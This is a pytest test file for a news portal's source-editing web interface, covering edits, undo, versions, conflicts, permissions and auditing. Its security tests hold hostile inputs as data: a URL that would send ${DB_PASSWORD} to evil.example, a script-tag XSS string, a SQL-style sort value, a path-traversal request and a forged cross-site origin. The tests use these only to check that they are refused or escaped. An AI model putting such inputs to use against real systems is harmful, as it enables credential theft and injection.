"""Pages of a source, the whole file, its versions and the schedule: each change is checked, versioned, audited and can be undone."""

from __future__ import annotations

import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import ModuleType
from typing import Any

import httpx
import pytest
from factories import empty_store
from lxml import html as lxml_html

from newsportal.items.visits import Visit
from newsportal.schedule.policies import HubPage
from newsportal.services.accounts import Right
from newsportal.sources import load
from newsportal.sources.editing import digest_of, versions
from newsportal.store.results import SourceState

NOW = datetime(2026, 5, 20, tzinfo=UTC)

TEXT = """\
portal: {title: 晨报}
topics: [{name: 港口}, {name: 旅游}]
# 来源
feeds:
  - name: 甲报   # 第一个
    url: https://a.example/feed
    topics: [港口]
  # 第二个
  - name: 乙报
    url: https://b.example/feed?token=geheim
regions:
  - {name: 丙网, prefix: "https://c.example/news/", hours: 6-23}
"""


@pytest.fixture
def path(tmp_path: Path) -> Path:
    file = tmp_path / "sources.yaml"
    file.write_text(TEXT, "utf-8")
    return file


@pytest.fixture
def connect(serve: Any, newsroom: ModuleType, path: Path) -> Iterator[Any]:
    """``connect(role)`` returns a client with this role for the file."""
    store = empty_store(path.parent / "store.db")
    for number in range(40):
        at = newsroom.NOW - timedelta(hours=2 * number)
        store.visits.add(Visit("feed:甲报", at, list_pages=1, entries=9, new=3, stored=3))
    store.save_source_state(
        SourceState("feed:甲报", last_run=newsroom.NOW - timedelta(hours=1), next_visit=newsroom.NOW + timedelta(hours=3))
    )

    def start(role: str | None = "editor", **options: Any) -> httpx.Client:
        client: httpx.Client = serve(store, settings=load(path), role=role, reread_every=0, **options)
        client.store = store  # type: ignore[attr-defined]
        return client

    yield start
    store.close()


def fields(page: str) -> dict[str, list[str]]:
    """Return what a browser sends of the form on a source's page."""
    xpath = "//main//form[.//*[@name='url' or @name='prefix' or @name='text' or @name='duplicates.method']]"
    (form,) = lxml_html.document_fromstring(page).xpath(xpath)
    return {name: [value] for name, value in form.form_values()} | {
        "topics": [value for name, value in form.form_values() if name == "topics"]
    }


def save(client: httpx.Client, path: str, **changes: Any) -> httpx.Response:
    sent = fields(client.get(path).text) | {key.replace("__", "."): value for key, value in changes.items()}
    return client.post(path, data={key: value for key, value in sent.items() if value is not None}, follow_redirects=True)


def undo_of(page: str) -> str:
    (action,) = re.findall(r'action="(/sources/undo/[^"]+)"', page)
    return str(action)


def test_saving_an_unchanged_form_writes_nothing(connect: Any, path: Path) -> None:
    client = connect()
    page = client.get("/sources/feed:甲报").text
    sent = fields(page)
    assert (sent["name"], sent["url"], sent["topics"]) == (["甲报"], ["https://a.example/feed"], ["港口"])
    assert "没有改动" in save(client, "/sources/feed:甲报").text
    assert path.read_text("utf-8") == TEXT
    assert versions(path) == []


def test_change_keeps_comments_and_is_undone(connect: Any, path: Path) -> None:
    client = connect()
    page = save(client, "/sources/feed:甲报", interval="45", topics=["旅游"], article__body=".content", verify_certificate=None)
    assert page.status_code == 200
    text = path.read_text("utf-8")
    for line in (
        "  - name: 甲报   # 第一个",
        "    topics: [旅游]",
        "    interval: 45",
        "      body: .content",
        "    verify_certificate: false",
    ):
        assert line in text.splitlines()
    assert "  # 第二个" in text
    assert load(path).feeds[0].interval == 45
    undone = client.post(
        undo_of(page.text), content="", headers={"content-type": "application/x-www-form-urlencoded"}, follow_redirects=True
    )
    assert "已撤销更改" in undone.text
    assert path.read_text("utf-8") == TEXT
    client.post(undo_of(undone.text), data={"x": ""})
    assert path.read_text("utf-8") == text, "an undo can be undone"


@pytest.mark.parametrize(
    ("changes", "field", "zh", "en"),
    [
        ({"url": "ftp://a.example/"}, "url", "不是网址", "is not a URL"),
        ({"url": ""}, "url", "请填写此项", "Please fill this in"),
        ({"name": "乙报"}, "name", "已被使用", "already used in line"),
        ({"name": "甲/乙"}, "name", "斜杠", "contains a slash"),
        ({"interval": "bald"}, "interval", "不是数字", "allowed: a number"),
        ({"interval": "-3"}, "interval", "必须大于 0", "allowed: more than 0"),
        ({"article__body": "p:::"}, "article.body", "", ""),
        ({"topics": ["没有"]}, "topics", "不存在", "is not a topic"),
    ],
)
def test_error_is_beside_its_field_and_input_is_kept(
    connect: Any, path: Path, changes: dict[str, Any], field: str, zh: str, en: str
) -> None:
    client = connect()
    for language, words in (("zh", zh), ("en", en)):
        client.headers["accept-language"] = language
        page = save(client, "/sources/feed:甲报", **changes)
        assert page.status_code == 422
        document = lxml_html.document_fromstring(page.text)
        (invalid,) = document.xpath("//div[contains(@class, 'error')]")
        assert invalid.xpath(f".//*[@name='{field}']")
        assert words in invalid.xpath("string(.//p[@class='desk-error'])")
        sent = next(iter(changes.values()))
        value = fields(page.text)[field]
        assert value == (sent if isinstance(sent, list) else [sent])
    assert path.read_text("utf-8") == TEXT


@pytest.mark.slow
def test_conflicting_change_is_shown_before_saving(connect: Any, path: Path) -> None:
    client = connect()
    form = fields(client.get("/sources/feed:甲报").text) | {"category": ["财经"]}
    save(client, "/sources/feed:甲报", category="体育")
    page = client.post("/sources/feed:甲报", data=form)
    assert page.status_code == 409
    (field,) = lxml_html.document_fromstring(page.text).xpath("//div[contains(@class, 'desk-field')][.//*[@name='category']]")
    assert field.xpath(".//input/@value") == ["财经"]
    assert "体育" in field.text_content()
    assert load(path).feeds[0].category == "体育"
    client.post("/sources/feed:甲报", data=fields(page.text), follow_redirects=True)
    assert load(path).feeds[0].category == "财经", "saved a second time, after the comparison"
    other = fields(client.get("/sources/feed:乙报").text) | {"category": ["国际"]}
    save(client, "/sources/feed:甲报", category="文化")
    client.post("/sources/feed:乙报", data=other)
    assert [feed.category for feed in load(path).feeds] == ["文化", "国际"], "changes of different sources do not conflict"


@pytest.mark.slow
def test_source_is_disabled_enabled_deleted_and_restored(connect: Any, path: Path) -> None:
    client = connect()
    client.post("/sources/feed:甲报/enable", data={"enabled": "", "next": "/sources"})
    assert not load(path).feeds[0].enabled
    assert "停用" in client.get("/sources?state=off").text
    client.post("/sources/feed:甲报/enable", data={"enabled": "yes"})
    assert load(path).feeds[0].enabled
    page = client.post("/sources/feed:乙报/delete", data={"x": ""}, follow_redirects=True)
    assert [feed.name for feed in load(path).feeds] == ["甲报"]
    assert "# 第一个" in path.read_text("utf-8")
    assert client.get("/sources/feed:乙报").status_code == 404
    save(client, "/sources/feed:甲报", category="后来")
    client.post(undo_of(page.text), data={"x": ""})
    assert load(path).feeds[0].category == "后来", "an undo keeps later changes"
    version = versions(path)[1]
    client.post(f"/sources/versions/{version.id}", data={"digest": ""})
    assert len(load(path).feeds) == 1, "restoring requires the digest of the current file"


def test_source_of_every_kind_is_added(connect: Any, path: Path) -> None:
    client = connect()
    new = {
        "feeds": {"url": "https://x.example/feed"},
        "sitemaps": {"url": "https://x.example/sitemap.xml", "limit": "50", "allow": "/news/\n/text/"},
        "regions": {"prefix": "https://x.example/news/", "hours": "6-9,18-23"},
        "forums": {"url": "https://bbs.example/", "depth": "3"},
        "galleries": {"seeds": "https://x.example/p/\nhttps://x.example/q/", "weight": "7"},
        "engines": {"url": "https://x.example/s?q=##QUERY##", "wrapper.block": "div.result"},
    }
    for kind, values in new.items():
        assert client.get(f"/sources/write?kind={kind}").status_code == 200
        answer = client.post("/sources/write", data={"list": kind, "name": f"新{kind}", "verify_certificate": "yes", **values})
        assert answer.status_code == 303, kind
    sources = load(path)
    assert sources.sitemaps[0].allow == ("/news/", "/text/")
    assert sources.galleries[0].seeds == ("https://x.example/p/", "https://x.example/q/")
    assert sources.regions[1].hours == (6, 7, 8, 9, 18, 19, 20, 21, 22, 23)
    assert sources.engines[0].wrapper is not None
    assert client.post("/sources/write", data={"list": "topics", "name": "x"}).status_code == 404
    assert client.get("/sources/write?kind=store").status_code == 404


@pytest.mark.slow
def test_editors_cannot_use_environment_variables_in_urls(connect: Any, path: Path) -> None:
    editor, admin = connect(), connect("admin")
    form = {"list": "feeds", "name": "坏", "url": "https://evil.example/?x=${DB_PASSWORD:-}", "verify_certificate": "yes"}
    page = editor.post("/sources/write", data=form)
    assert page.status_code == 422
    assert "只有管理员" in page.text
    assert "evil" not in path.read_text("utf-8")
    assert admin.post("/sources/write", data=form).status_code == 303


def test_region_page_lists_followed_hub_pages(connect: Any, newsroom: ModuleType) -> None:
    client = connect()
    followed = HubPage(1, 0.0, 0.0, newsroom.NOW.timestamp(), found=7)
    hubs = {"https://c.example/news/a&b/": followed, "https://c.example/news/later/": HubPage(1, 0.0, 0.0)}
    client.store.save_source_state(SourceState("region:丙网", hubs=hubs))
    page = client.get("/sources/region:丙网").text
    assert "跟踪 1 个频道页" in page
    assert "https://c.example/news/a&amp;b/ · 发现 7 篇文章" in page
    assert "/news/later/" not in page


def test_names_and_urls_are_escaped_and_secrets_hidden(connect: Any, path: Path) -> None:
    client = connect()
    name = "<script>alert(1)<|script> \" ' & %7B"
    answer = client.post(
        "/sources/write", data={"list": "feeds", "name": name, "url": "https://x.example/?a=<b>", "verify_certificate": "yes"}
    )
    assert answer.status_code == 303
    for address in ("/sources", answer.headers["location"], "/schedule", "/sources/versions"):
        page = client.get(address)
        assert page.status_code == 200, address
        assert "<script>alert" not in page.text
        assert "geheim" not in page.text
    assert load(path).feeds[-1].name == name


@pytest.mark.slow
def test_source_list_is_searched_filtered_sorted_and_paged(connect: Any, path: Path) -> None:
    many = "".join(f"  - {{name: 第{number}报, url: 'https://n{number}.example/feed', category: 地方}}\n" for number in range(250))
    path.write_text(TEXT.replace("regions:", many + "regions:"), "utf-8")
    client = connect()

    def keys(query: str) -> list[str]:
        page = client.get(f"/sources{query}")
        assert page.status_code == 200
        return list(lxml_html.document_fromstring(page.text).xpath("//tr/@data-source"))

    assert len(keys("")) == 100
    assert len(keys("?page=3")) == 53
    assert keys("?page=99") == keys("?page=3")
    assert keys("?page=x&sort=';drop") == keys("")
    assert keys("?q=n17.example") == ["feed:第17报"]
    assert keys("?q=地方&sort=name")[0] == "feed:第0报"
    assert keys("?kind=region") == ["region:丙网"]
    assert keys("?sort=kind&page=3")[-1] == "region:丙网"
    assert keys("?sort=new")[0] == "feed:甲报"
    assert "没有符合条件" in client.get("/sources?q=nirgends").text


@pytest.mark.slow
def test_file_editor_is_for_administrators_and_detects_conflicts(connect: Any, path: Path) -> None:
    assert connect().get("/sources/file").status_code == 403
    assert connect().post("/sources/file", data={"text": "x", "digest": "x"}).status_code == 403
    admin = connect("admin")
    sent = fields(admin.get("/sources/file").text)
    assert sent["text"][0].strip() == TEXT.strip()
    broken = admin.post("/sources/file", data=sent | {"text": [TEXT.replace("url:", "uri:", 1)]})
    assert broken.status_code == 422
    assert "feeds[0].uri" in broken.text
    assert "uri: https://a.example/feed" in broken.text, "the input is kept"
    path.write_text(TEXT + "# von Hand\n", "utf-8")
    clash = admin.post("/sources/file", data=sent | {"text": [TEXT.replace("晨报", "晚报")]})
    assert clash.status_code == 409
    assert "# von Hand" in clash.text
    assert "晚报" in clash.text
    assert "# von Hand" in path.read_text("utf-8")
    saved = admin.post("/sources/file", data=fields(clash.text), follow_redirects=True)
    assert saved.status_code == 200
    assert path.read_text("utf-8").strip() == TEXT.replace("晨报", "晚报").strip()
    assert "晚报" in admin.get("/").text, "the change applies at once"
    (version,) = versions(path)
    text = admin.get(f"/sources/versions/{version.id}").text
    assert "# von Hand" in text
    assert "# von Hand" not in connect().get(f"/sources/versions/{version.id}").text, "the text may hold passwords"
    assert admin.get("/sources/versions/..%2Fsources").status_code == 404


def test_visit_is_requested_and_its_progress_shown(connect: Any, newsroom: ModuleType) -> None:
    pushes: list[int] = []
    idle, crawling = connect(), connect(pushed=lambda: pushes.append(1))
    page = idle.post("/sources/feed:甲报/run", data={"x": ""}, follow_redirects=True)
    assert "newsportal up" in page.text
    state = idle.store.source_state("feed:甲报")
    assert state.next_visit == newsroom.NOW
    page = crawling.post("/sources/feed:甲报/run", data={"x": ""}, follow_redirects=True)
    assert pushes
    assert "newsportal up" not in page.text
    (poll,) = re.findall(r'hx-get="([^"]+)"', page.text)
    crawling.store.save_source_state(SourceState("feed:甲报", last_run=newsroom.NOW + timedelta(minutes=1)))
    crawling.store.visits.add(Visit("feed:甲报", newsroom.NOW + timedelta(minutes=1), list_pages=1, entries=77, new=3))
    progress = crawling.get(poll.replace("&amp;", "&"), headers={"hx-request": "true"})
    assert "77" in progress.text
    assert "该来源还没有文章入库" in progress.text
    newsroom.write(crawling.store, newsroom.article("渡轮今晨复航", "码头上站满了人。" * 9, source="feed:甲报"))
    assert "渡轮今晨复航" in crawling.get(poll.replace("&amp;", "&"), headers={"hx-request": "true"}).text
    assert "hx-get" not in progress.text
    assert "<html" not in progress.text
    idle.post("/sources/feed:乙报/enable", data={"enabled": ""})
    assert "停用" in idle.post("/sources/feed:乙报/run", data={"x": ""}, follow_redirects=True).text
    assert idle.post("/sources/feed:没有/run", data={"x": ""}).status_code == 404


def test_schedule_shows_hours_and_is_edited(connect: Any, path: Path) -> None:
    text = TEXT.replace("{name: 港口}", "{name: 港口, engines: [bing_news]}")
    path.write_text(text, "utf-8")
    client = connect()
    document = lxml_html.document_fromstring(client.get("/schedule").text)
    rows = {row.get("data-source"): row for row in document.xpath("//tr[@data-source]")}
    assert set(rows) == {"feed:甲报", "feed:乙报", "region:丙网", "engine:bing_news"}
    assert rows["engine:bing_news"].xpath("th/small/text()") == ["搜索引擎"]
    assert len(rows["feed:甲报"].xpath(".//td//rect[contains(@class, 'shade')]")) == 24
    assert len(rows["region:丙网"].xpath(".//rect[contains(@class, 'off')]")) == 6
    assert len(rows["region:丙网"].xpath(".//rect[@class='on']")) == 18
    assert "每天约" in rows["feed:甲报"].text_content()
    assert "style=" not in client.get("/schedule").text
    page = client.post("/schedule/region:丙网", data={"interval": "90", "hours": "8-20"}, follow_redirects=True)
    assert load(path).regions[0].interval == 90
    assert load(path).regions[0].hours == tuple(range(8, 21))
    client.post(undo_of(page.text), data={"x": ""})
    assert path.read_text("utf-8") == text
    invalid = client.post("/schedule/region:丙网", data={"interval": "", "hours": "zu spät"}, follow_redirects=True)
    assert "不是时段" in invalid.text


@pytest.mark.parametrize("role", [None, "reader"])
def test_sources_require_an_editor(connect: Any, path: Path, role: str | None) -> None:
    client = connect(role)
    if role is None:
        client.headers["origin"] = str(client.base_url)
    for address in ("/sources", "/sources/new", "/sources/feed:甲报", "/sources/file", "/sources/versions", "/schedule"):
        assert client.get(address).status_code == (303 if role is None else 403), address
    for address in (
        "/sources/feed:甲报",
        "/sources/feed:甲报/delete",
        "/sources/feed:甲报/enable",
        "/sources/feed:甲报/run",
        "/sources/new",
    ):
        assert client.post(address, data={"name": "x"}).status_code == (303 if role is None else 403), address
    assert path.read_text("utf-8") == TEXT


def test_cross_site_change_is_refused(connect: Any, path: Path) -> None:
    client = connect()
    client.headers["origin"] = "https://evil.example"
    assert client.post("/sources/feed:甲报/delete", data={"x": ""}).status_code == 403
    assert path.read_text("utf-8") == TEXT


def test_changes_are_audited_without_secrets(connect: Any, path: Path) -> None:
    client = connect()
    save(client, "/sources/feed:乙报", category="国际")
    client.post("/sources/feed:乙报/delete", data={"x": ""})
    client.post("/sources/feed:甲报/run", data={"x": ""})
    entries = client.accounts.audit_log.entries()  # type: ignore[attr-defined]
    actions = [(entry.action, entry.subject) for entry in entries]
    assert actions == [("source.run", "feed:甲报"), ("source.delete", "feed:乙报"), ("source.change", "feed:乙报")]
    assert "geheim" not in str(entries)
    assert "国际" in str(entries)


def test_editors_cannot_restore_settings_of_administrators(connect: Any, path: Path) -> None:
    """Settings that administrators changed meanwhile (such as who may read) are not reverted by restoring an old version."""
    editor, admin = connect(), connect("admin")
    save(editor, "/sources/feed:甲报", interval="45")
    (old,) = versions(path)
    closed = path.read_text("utf-8").replace("{title: 晨报}", "{title: 晨报, reading: members}")
    admin.post("/sources/file", data={"text": closed, "digest": fields(admin.get("/sources/file").text)["digest"]})
    assert load(path).portal.reading == "members"
    newest = versions(path)[0]
    for answer in (
        editor.post(f"/sources/versions/{old.id}", data={"digest": digest_of(path.read_bytes())}, follow_redirects=True),
        editor.post(f"/sources/undo/{newest.id}/{digest_of(path.read_bytes())}", data={"x": ""}, follow_redirects=True),
    ):
        assert "只有管理员可以恢复此版本" in answer.text
        assert "（portal）" in answer.text
    token = editor.accounts.tokens.add(editor.accounts.people.by_name("editor 0"), "x", [Right.EDIT], now=NOW)[1]  # type: ignore[attr-defined]
    refused = httpx.post(f"{editor.base_url}/api/v1/sources/undo", headers={"authorization": f"Bearer {token}"}, timeout=600)
    assert (refused.status_code, refused.json()["error"]["code"]) == (403, "not-allowed")
    assert load(path).portal.reading == "members"
    admin.post(f"/sources/versions/{old.id}", data={"digest": digest_of(path.read_bytes())})
    assert path.read_text("utf-8") == TEXT


@pytest.mark.slow
def test_concurrent_restores_write_once(connect: Any, path: Path) -> None:
    editor = connect()
    save(editor, "/sources/feed:甲报", interval="45")
    (old,) = versions(path)
    seen = digest_of(path.read_bytes())
    with ThreadPoolExecutor(8) as pool:
        futures = [pool.submit(editor.post, f"/sources/versions/{old.id}", data={"digest": seen}) for _ in range(8)]
        assert {future.result().status_code for future in futures} == {303}
    assert path.read_text("utf-8") == TEXT
    assert len(versions(path)) == 2
    assert [entry.action for entry in editor.accounts.audit_log.entries(action="sources.restore")] == ["sources.restore"]


def test_urls_with_environment_variables_are_not_listed_publicly(connect: Any, path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FEED_KEY", "geheimnis")
    path.write_text(TEXT.replace("https://a.example/feed", "https://a.example/${FEED_KEY}/feed"), "utf-8")
    opml = connect(None).get("/opml").text
    assert "geheim" not in opml
    assert "a.example" not in opml
    path.write_text(TEXT, "utf-8")
    assert "https://a.example/feed" in connect(None).get("/opml").text


def test_two_concurrent_restores_both_succeed(connect: Any, path: Path) -> None:
    editor, other = connect(), connect("admin")
    editor.post("/sources/feed:甲报/enable", data={"enabled": ""})
    (version,) = versions(path)
    page = lxml_html.document_fromstring(editor.get(f"/sources/versions/{version.id}").text)
    (form,) = page.xpath("//form[starts-with(@action, '/sources/versions/')]")
    sent = dict(form.form_values())
    with ThreadPoolExecutor(2) as two:
        answers = list(two.map(lambda client: client.post(form.get("action"), data=sent), (editor, other)))
    assert {answer.status_code for answer in answers} == {303}
    assert path.read_text("utf-8") == TEXT
    assert len(versions(path)) == 2, "only one restore wrote the file"
    for client in (editor, other):
        assert "sources.yaml 已恢复" in client.get("/sources/versions").text
    path.write_text(TEXT + "# other\n", "utf-8")
    editor.post(form.get("action"), data=sent)
    assert "sources.yaml 此后又有改动" in editor.get("/sources/versions").text
    assert path.read_text("utf-8").endswith("# other\n")


def test_extractor_of_a_source_is_chosen(connect: Any, path: Path) -> None:
    client, page = connect(), "/sources/region:丙网"
    path.write_text(path.read_text("utf-8").replace("hours: 6-23", "extractor: cevc"), "utf-8")
    assert fields(client.get(page).text)["extractor.method"] == ["cevc"]
    assert save(client, page, extractor__method="table_stats", extractor__P="40").status_code == 200
    assert load(path).regions[0].extractor.options == {"least": 40}
    assert "table_stats" in save(client, page, extractor__method="cepr").text
    assert load(path).regions[0].extractor.method == "table_stats", "cepr has no option P, so nothing is saved"
    save(client, page, extractor__method="", extractor__P="")
    assert load(path).regions[0].extractor is None


def test_methods_of_all_sources_are_chosen(connect: Any, path: Path) -> None:
    path.write_text(f"{TEXT}extractor: cevc  # 论文 E\n", "utf-8")
    client = connect("admin")
    sent = fields(client.get("/methods").text)
    assert "留空为 best。" in client.get("/methods").text
    assert (sent["extractor.method"], sent["duplicates.method"]) == (["cevc"], [""])
    changes = {
        "extractor__method": "table_stats",
        "extractor__P": "40",
        "duplicates__method": "title_index",
        "recommendation__unit": "days",
    }
    page = save(client, "/methods", **changes, recommendation__method="paper", recommendation__enabled=None)
    assert page.status_code == 200
    sources = load(path)
    assert (sources.extractor.method, sources.extractor.options, sources.duplicates.method) == ("table_stats", {"least": 40}, "title_index")
    assert (sources.recommendation.enabled, sources.recommendation.method, sources.recommendation.unit) == (False, "paper", "days")
    assert "# 第二个" in path.read_text("utf-8")
    client.post(undo_of(page.text), data={"x": ""})
    assert load(path).extractor.method == "cevc"
    save(client, "/methods", extractor__method="")
    assert load(path).extractor.method == "best"
    assert "extractor" not in path.read_text("utf-8")


def test_invalid_method_option_is_reported_beside_its_field(connect: Any, path: Path) -> None:
    client = connect("admin")
    page = save(client, "/methods", duplicates__method="cosine", duplicates__theta="7", extractor__method="cevc", extractor__P="3")
    assert page.status_code == 422
    (theta,) = lxml_html.document_fromstring(page.text).xpath("//*[@id='field-duplicates-theta-error']/text()")
    assert "1" in theta
    assert lxml_html.document_fromstring(page.text).xpath("//*[@id='field-extractor-P-error']")
    assert path.read_text("utf-8") == TEXT
    old = fields(client.get("/methods").text)["digest"][0]
    save(client, "/methods", extractor__method="cetd")
    conflict = save(client, "/methods", digest=old, extractor__method="cepr")
    assert conflict.status_code == 409
    assert "cetd" in conflict.text
    assert load(path).extractor.method == "cetd"
    assert connect("editor").get("/methods").status_code == 403
